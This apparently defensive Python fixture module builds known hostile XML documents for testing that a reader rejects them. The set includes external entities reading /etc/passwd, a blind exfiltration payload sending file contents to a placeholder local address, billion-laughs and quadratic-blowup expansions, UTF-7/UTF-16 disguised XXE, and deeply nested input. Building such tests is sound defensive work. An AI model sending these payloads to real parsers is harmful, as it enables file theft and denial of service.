"""Makers of hostile XML: each returns the bytes of one known attack on XML readers."""

SECRET_FILE = "/etc/passwd"
OUTSIDE = "http://127.0.0.1:9/zly.dtd"


def xml_attacks() -> dict[str, bytes]:
    """Twelve documents that must be refused at once, wherever XML comes in."""
    plain = {
        "external file entity": f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{SECRET_FILE}">]><a>&x;</a>',
        "external address entity": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{OUTSIDE}">]><a>&x;</a>',
        "external document type": f'<!DOCTYPE a SYSTEM "{OUTSIDE}"><a/>',
        "public document type": f'<!DOCTYPE a PUBLIC "-//X//Y//PL" "{OUTSIDE}"><a/>',
        "parameter entity": f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{OUTSIDE}"> %p;]><a/>',
        "blind exfiltration": (
            f'<!DOCTYPE a [<!ENTITY % f SYSTEM "file://{SECRET_FILE}">'
            f"<!ENTITY % e \"<!ENTITY &#x25; s SYSTEM '{OUTSIDE}?%f;'>\"> %e; %s;]><a/>"
        ),
        "billion laughs": _laughs(),
        "quadratic blowup": f'<!DOCTYPE a [<!ENTITY x "{"y" * 50_000}">]><a>{"&x;" * 20_000}</a>',
        "default attribute": '<!DOCTYPE a [<!ATTLIST a href CDATA "http://127.0.0.1:9/">]><a/>',
        "entity in an attribute": '<!DOCTYPE a [<!ENTITY x "y">]><a b="&x;"/>',
    }
    attacks = {name: text.encode() for name, text in plain.items()}
    attacks["document type in UTF-16"] = (
        '<?xml version="1.0" encoding="UTF-16"?>' + plain["external file entity"]
    ).encode("utf-16")
    attacks["document type in UTF-7"] = (
        b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a [+ADwAIQ-ENTITY x SYSTEM "file:///etc/passwd"+AD4]+AD4'
        b"+ADw-a+AD4AJg-x+ADsAPA-/a+AD4-"
    )
    return attacks


def _laughs() -> str:
    rows = ['<!ENTITY l0 "ha">']
    rows += [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12)]
    return f"<!DOCTYPE a [{''.join(rows)}]><a>&l11;</a>"


def deep_xml(depth: int = 100_000) -> bytes:
    """A document nested so deep that a recursive reader dies."""
    return b"<a>" * depth + b"</a>" * depth


def wide_xml(count: int = 600_000) -> bytes:
    """A document with more elements than any letter has."""
    return b"<a>" + b"<b/>" * count + b"</a>"
